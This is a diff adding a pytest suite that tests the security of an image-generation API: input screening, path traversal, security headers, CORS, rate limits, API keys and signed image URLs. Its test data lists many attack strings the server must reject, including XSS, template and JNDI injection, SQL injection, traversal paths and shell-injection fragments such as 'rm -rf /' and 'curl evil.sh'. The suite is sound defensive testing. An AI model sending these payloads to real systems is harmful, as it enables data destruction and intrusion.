@@ -1,0 +1,378 @@
+"""Hostile input, prompt screening, traversal, rate limits (memory and Redis), keys, signed URLs."""
+
+from __future__ import annotations
+
+import secrets
+import time
+import urllib.parse
+
+import pytest
+import redis
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tests.conftest import wait_ready
+
+PROMPT = "a white square on a black background"
+
+HOSTILE_BODIES = [
+    # (body, status, code)
+    ({"prompt": ""}, 400, "prompt_rejected"),
+    ({"prompt": "   \n\t "}, 400, "prompt_rejected"),
+    ({"prompt": "x" * 501}, 400, "prompt_rejected"),
+    ({"prompt": "a cat\x00"}, 400, "prompt_rejected"),
+    ({"prompt": "a cat\x1b[31m"}, 400, "prompt_rejected"),
+    ({"prompt": "a cat\x7f"}, 400, "prompt_rejected"),
+    ({"prompt": "<script>alert(1)</script>"}, 400, "prompt_rejected"),
+    ({"prompt": "＜script＞alert(1)＜/script＞"}, 400, "prompt_rejected"),
+    ({"prompt": "<ScRiPt src=//x>"}, 400, "prompt_rejected"),
+    ({"prompt": "<img src=x onerror='alert(1)'>"}, 400, "prompt_rejected"),
+    ({"prompt": "<svg onload=alert(1)>"}, 400, "prompt_rejected"),
+    ({"prompt": "<iframe src=http://evil>"}, 400, "prompt_rejected"),
+    ({"prompt": "javascript:alert(1)"}, 400, "prompt_rejected"),
+    ({"prompt": "ｊａｖａｓｃｒｉｐｔ:alert(1)"}, 400, "prompt_rejected"),
+    ({"prompt": "a {{ config.items() }}"}, 400, "prompt_rejected"),
+    ({"prompt": "{% for x in y %}"}, 400, "prompt_rejected"),
+    ({"prompt": "${jndi:ldap://evil/a}"}, 400, "prompt_rejected"),
+    ({"prompt": "#{7*7}"}, 400, "prompt_rejected"),
+    ({"prompt": "<%= system('id') %>"}, 400, "prompt_rejected"),
+    ({"prompt": "a cat $(rm -rf /)"}, 400, "prompt_rejected"),
+    ({"prompt": "a cat `id`"}, 400, "prompt_rejected"),
+    ({"prompt": "a cat; rm -rf /"}, 400, "prompt_rejected"),
+    ({"prompt": "a cat && curl evil.sh"}, 400, "prompt_rejected"),
+    ({"prompt": "' OR '1'='1"}, 400, "prompt_rejected"),
+    ({"prompt": "x' OR 1=1 --"}, 400, "prompt_rejected"),
+    ({"prompt": "1 UNION SELECT password FROM users"}, 400, "prompt_rejected"),
+    ({"prompt": "a; DROP TABLE jobs"}, 400, "prompt_rejected"),
+    ({"prompt": "insert into users values (1)"}, 400, "prompt_rejected"),
+    ({"prompt": "../../etc/passwd"}, 400, "prompt_rejected"),
+    ({"prompt": "..\\..\\windows"}, 400, "prompt_rejected"),
+    ({"prompt": "%2e%2e%2fsecret"}, 400, "prompt_rejected"),
+    ({"prompt": "C:\\Windows\\system32"}, 400, "prompt_rejected"),
+    ({"prompt": PROMPT, "negative_prompt": "<script>x</script>"}, 400, "prompt_rejected"),
+    ({"prompt": PROMPT, "negative_prompt": "y" * 600}, 400, "prompt_rejected"),
+    ({"prompt": None}, 400, "invalid_request"),
+    ({"prompt": ["a", "b"]}, 400, "invalid_request"),
+    ({"prompt": {"$gt": ""}}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "steps": "20"}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "steps": 20.5}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "steps": True}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "steps": 0}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "steps": -3}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "width": 1000000}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "width": 100}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "height": 0}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "seed": 2**64}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "seed": 1e300}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "guidance_scale": 1e309}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "guidance_scale": -1}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "num_images": 1000}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "num_images": 0}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "response_format": "file"}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "__proto__": {"admin": True}}, 400, "invalid_request"),
+    ({"prompt": PROMPT, "model": "../../etc"}, 400, "unknown_model"),
+    ([PROMPT], 400, "invalid_request"),
+    ("a string body", 400, "invalid_request"),
+]
+
+
+@pytest.mark.parametrize(("body", "status", "code"), HOSTILE_BODIES)
+def test_hostile_bodies_get_clear_4xx_and_change_nothing(client, body, status, code):
+    before = client.get("/status").json["app"]["images"]
+    response = client.post("/generate", json=body)
+    assert response.status_code == status, response.json
+    error = response.json["error"]
+    assert error["code"] == code and error["message"]
+    assert "Traceback" not in response.get_data(as_text=True)
+    assert client.get("/status").json["app"]["images"] == before
+
+
+@pytest.mark.parametrize(
+    ("raw", "status"),
+    [
+        ('{"prompt": "a", "steps": NaN}', 400),
+        ('{"prompt": "a", "guidance_scale": Infinity}', 400),
+        ('{"prompt": "a", "guidance_scale": -Infinity}', 400),
+        ('{"prompt": "a"', 400),
+        ("", 400),
+    ],
+)
+def test_non_finite_and_broken_json_is_rejected(client, raw, status):
+    response = client.post("/generate", data=raw, content_type="application/json")
+    assert response.status_code == status
+    assert response.json["error"]["code"] in {"invalid_json", "invalid_request"}
+
+
+def test_refusal_names_the_rule_and_logs_without_the_prompt(client, caplog):
+    response = client.post("/generate", json={"prompt": "a cat {{ 7*7 }} secretword"}, headers={"X-Request-ID": "r-1"})
+    assert response.json["error"]["details"]["rule"] == "template"
+    logged = "\n".join(r.getMessage() for r in caplog.records if r.name == "imagegen.security")
+    assert "rule=template" in logged and "secretword" not in logged
+
+
+def test_configured_blocked_words_and_patterns(app_factory, tmp_path):
+    patterns = tmp_path / "patterns.txt"
+    patterns.write_text("# one regex a line\nforbidden\\s+thing\n")
+    client = app_factory(blocked_words="Bananas, grapes", blocked_patterns_file=patterns).test_client()
+    wait_ready(client)
+    for prompt, rule in [("some BANANAS", "blocked_word"), ("a Forbidden   Thing", "blocked_pattern")]:
+        response = client.post("/generate", json={"prompt": prompt})
+        assert response.status_code == 400
+        assert response.json["error"]["details"]["rule"] == rule
+    assert client.post("/generate", json={"prompt": "a banana-free bowl", "steps": 1}).status_code == 200
+
+
+def test_body_size_and_content_type(app_factory):
+    client = app_factory(max_request_bytes=2048).test_client()
+    big = client.post("/generate", data='{"prompt": "' + "a" * 4096 + '"}', content_type="application/json")
+    assert big.status_code == 413 and big.json["error"]["code"] == "payload_too_large"
+    form = client.post("/generate", data={"prompt": "x"})
+    assert form.status_code == 415
+    xml = client.post("/generate", data="<prompt/>", content_type="application/xml")
+    assert xml.status_code == 415
+
+
+TRAVERSALS = [
+    "../config.py",
+    "..%2Fconfig.py",
+    "%2e%2e%2fconfig.py",
+    "..%252Fconfig.py",
+    "%252e%252e%252fconfig.py",
+    "..\\config.py",
+    "..%5Cconfig.py",
+    "/etc/passwd",
+    "%2Fetc%2Fpasswd",
+    "....//config.py",
+    "x.png%00.txt",
+    ".env",
+    ".gitkeep",
+    "subdir/../../app.py",
+    "AAAAAAAAAAAAAAAAAAAAAA.png/../../app.py",
+]
+
+
+@pytest.mark.parametrize("name", TRAVERSALS)
+def test_traversal_never_reaches_a_file(client, name):
+    response = client.get(f"/images/{name}")
+    assert response.status_code in {400, 404}
+    assert b"import" not in response.data and b"root:" not in response.data
+
+
+def test_security_headers_on_every_response(client):
+    for response in (client.get("/"), client.get("/missing"), client.post("/generate", json={})):
+        assert response.headers["X-Content-Type-Options"] == "nosniff"
+        assert response.headers["X-Frame-Options"] == "DENY"
+        assert response.headers["Referrer-Policy"] == "no-referrer"
+        assert "default-src 'none'" in response.headers["Content-Security-Policy"]
+        assert "Access-Control-Allow-Origin" not in response.headers
+
+
+def test_cors_only_for_configured_origins(app_factory):
+    client = app_factory(cors_origins="https://app.example").test_client()
+    allowed = client.get("/", headers={"Origin": "https://app.example"})
+    assert allowed.headers["Access-Control-Allow-Origin"] == "https://app.example"
+    other = client.get("/", headers={"Origin": "https://evil.example"})
+    assert "Access-Control-Allow-Origin" not in other.headers
+
+
+# ----- rate limits -----
+
+
+def test_generation_limit_answers_429_with_headers(app_factory):
+    client = app_factory(rate_limit="2/minute").test_client()
+    wait_ready(client)
+    ip = {"REMOTE_ADDR": "198.51.100.7"}
+    statuses = [client.post("/generate", json={"prompt": PROMPT, "steps": 1}, environ_base=ip) for _ in range(3)]
+    assert [r.status_code for r in statuses] == [200, 200, 429]
+    limited = statuses[-1]
+    assert limited.json["error"]["code"] == "rate_limited"
+    assert int(limited.headers["Retry-After"]) > 0
+    assert limited.headers["X-RateLimit-Limit"] == "2" and limited.headers["X-RateLimit-Remaining"] == "0"
+    # another client is not affected; /health is exempt
+    assert client.post("/generate", json={"prompt": PROMPT, "steps": 1}).status_code == 200
+    assert all(client.get("/health", environ_base=ip).status_code == 200 for _ in range(5))
+
+
+def test_default_limit_covers_other_routes_and_forwarded_for_is_ignored(app_factory):
+    client = app_factory(rate_limit_default="3/minute").test_client()
+    spoofed = [client.get("/status", headers={"X-Forwarded-For": f"10.0.0.{i}"}) for i in range(4)]
+    assert [r.status_code for r in spoofed] == [200, 200, 200, 429]
+
+
+def test_trusted_proxy_uses_forwarded_for(app_factory):
+    client = app_factory(rate_limit_default="2/minute", trusted_proxy_count=1).test_client()
+    for i in range(3):
+        assert client.get("/status", headers={"X-Forwarded-For": f"203.0.113.{i}"}).status_code == 200
+    same = [client.get("/status", headers={"X-Forwarded-For": "203.0.113.99"}) for _ in range(3)]
+    assert [r.status_code for r in same] == [200, 200, 429]
+
+
+def redis_url() -> str:
+    url = "redis://127.0.0.1:6379/15"
+    try:
+        redis.Redis.from_url(url, socket_connect_timeout=1).ping()
+    except redis.exceptions.ConnectionError:
+        pytest.skip("Redis is not reachable at 127.0.0.1:6379")
+    return url
+
+
+def test_redis_storage_shares_limits_across_apps(app_factory):
+    url = redis_url()
+    first = app_factory(rate_limit_default="3/minute", rate_limit_storage_uri=url).test_client()
+    second = app_factory(rate_limit_default="3/minute", rate_limit_storage_uri=url).test_client()
+    # a fresh address per run, since Redis keeps counters between test runs
+    address = f"2001:db8::{secrets.token_hex(2)}:{secrets.token_hex(2)}"
+    ip = {"REMOTE_ADDR": address}
+    results = [c.get("/status", environ_base=ip).status_code for c in (first, second, first, second)]
+    assert results == [200, 200, 200, 429]
+    keys = redis.Redis.from_url(url).keys(f"*{address}*")
+    assert keys, "the limiter must keep its counters in Redis"
+
+
+# ----- API keys, admin token, signed image URLs -----
+
+
+@pytest.fixture
+def keyed(app_factory, tmp_path):
+    key_file = tmp_path / "keys.txt"
+    key_file.write_text("# team keys\nkey-from-file-0123456789\n")
+    app = app_factory(
+        api_keys="alpha-key-0123456789,beta-key-0123456789",
+        api_keys_file=key_file,
+        admin_token="admin-token-0123456789",
+        secret_key="s" * 32,
+        image_url_ttl_seconds=60,
+    )
+    client = app.test_client()
+    wait_ready(client)
+    return client
+
+
+def test_keys_required_everywhere_but_index_and_health(keyed):
+    assert keyed.get("/").status_code == 200
+    assert keyed.get("/health").status_code == 200
+    for method, path in [("get", "/status"), ("post", "/generate"), ("get", "/jobs/x"), ("post", "/cleanup")]:
+        response = getattr(keyed, method)(path, json={"prompt": PROMPT})
+        assert response.status_code == 401, path
+        assert response.json["error"]["code"] == "unauthorized"
+    assert keyed.get("/status", headers={"Authorization": "Bearer wrong"}).status_code == 401
+    assert keyed.get("/status", headers={"Authorization": "Bearer alpha-key-0123456789"}).status_code == 200
+    assert keyed.get("/status", headers={"X-API-Key": "beta-key-0123456789"}).status_code == 200
+    assert keyed.get("/status", headers={"X-API-Key": "key-from-file-0123456789"}).status_code == 200
+
+
+def test_keys_never_logged(keyed, caplog):
+    keyed.get("/status", headers={"Authorization": "Bearer alpha-key-0123456789"})
+    keyed.get("/status", headers={"Authorization": "Bearer guessed-key"})
+    text = "\n".join(r.getMessage() for r in caplog.records)
+    assert "alpha-key-0123456789" not in text and "guessed-key" not in text
+
+
+def test_admin_token_gates_cleanup_even_with_a_valid_key(keyed):
+    key = {"X-API-Key": "alpha-key-0123456789"}
+    assert keyed.post("/cleanup", headers=key).status_code == 401
+    admin = {**key, "X-Admin-Token": "admin-token-0123456789"}
+    assert keyed.post("/cleanup", headers=admin).status_code == 200
+
+
+def test_signed_image_urls(keyed):
+    key = {"X-API-Key": "alpha-key-0123456789"}
+    url = keyed.post("/generate", json={"prompt": PROMPT, "steps": 1}, headers=key).json["images"][0]["url"]
+    parts = urllib.parse.urlsplit(url)
+    query = dict(urllib.parse.parse_qsl(parts.query))
+    assert set(query) == {"expires", "sig"}
+    with keyed.get(f"{parts.path}?{parts.query}") as ok:  # no headers: works as <img src>
+        assert ok.status_code == 200 and ok.headers["Content-Type"] == "image/png"
+    assert keyed.get(parts.path).status_code == 403
+    assert keyed.get(parts.path, headers=key).status_code == 403
+    tampered = {**query, "sig": query["sig"][:-1] + ("0" if query["sig"][-1] != "0" else "1")}
+    assert keyed.get(parts.path, query_string=tampered).status_code == 403
+    extended = {**query, "expires": str(int(query["expires"]) + 3600)}
+    assert keyed.get(parts.path, query_string=extended).status_code == 403
+    expired = {"expires": str(int(time.time()) - 1)}
+    expired["sig"] = keyed.application.extensions["imagegen"].access._signature(
+        parts.path.rsplit("/", 1)[1], expired["expires"]
+    )
+    assert keyed.get(parts.path, query_string=expired).status_code == 403
+
+
+def test_rate_limit_is_per_key(app_factory):
+    client = app_factory(
+        api_keys="k1-0123456789abcdef,k2-0123456789abcdef", rate_limit_default="2/minute"
+    ).test_client()
+    one, two = {"X-API-Key": "k1-0123456789abcdef"}, {"X-API-Key": "k2-0123456789abcdef"}
+    assert [client.get("/status", headers=one).status_code for _ in range(3)] == [200, 200, 429]
+    assert client.get("/status", headers=two).status_code == 200
+
+
+def test_production_warns_without_keys(app_factory, caplog):
+    app_factory(app_env="production")
+    assert any("no API_KEYS" in r.getMessage() for r in caplog.records)
+
+
+def test_status_and_errors_never_show_secrets(keyed):
+    key = {"X-API-Key": "alpha-key-0123456789"}
+    text = keyed.get("/status", headers=key).get_data(as_text=True)
+    text += keyed.post("/generate", json={"prompt": PROMPT, "oops": 1}, headers=key).get_data(as_text=True)
+    for secret in ("alpha-key", "admin-token", "s" * 32):
+        assert secret not in text
+
+
+# ----- property: no random body makes a 5xx -----
+
+json_values = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
+    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3),
+    max_leaves=6,
+)
+FIELDS = [
+    "prompt",
+    "negative_prompt",
+    "width",
+    "height",
+    "steps",
+    "guidance_scale",
+    "seed",
+    "num_images",
+    "scheduler",
+    "model",
+    "response_format",
+    "async",
+]
+bodies = st.one_of(
+    json_values,
+    st.dictionaries(st.sampled_from(FIELDS), json_values, max_size=6),
+    st.fixed_dictionaries(
+        {"prompt": st.text(min_size=1, max_size=40)}, optional={name: json_values for name in FIELDS[1:]}
+    ),
+)
+
+
+@pytest.fixture(scope="module")
+def fuzz_client(tmp_path_factory):
+    from imagegen import create_app
+    from tests.conftest import make_settings
+
+    app = create_app(
+        make_settings(
+            tmp_path_factory.mktemp("fuzz"),
+            max_steps=2,
+            default_steps=1,
+            max_width=64,
+            max_height=64,
+            max_images_per_request=2,
+            max_queue_size=1000,
+        )
+    )
+    client = app.test_client()
+    wait_ready(client)
+    yield client
+    app.extensions["imagegen"].worker.stop(30)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(body=bodies)
+def test_random_bodies_never_yield_5xx(fuzz_client, body):
+    response = fuzz_client.post("/generate", json=body)
+    assert response.status_code < 500, response.get_data(as_text=True)
+    assert response.is_json and ("error" in response.json) == (response.status_code >= 400)
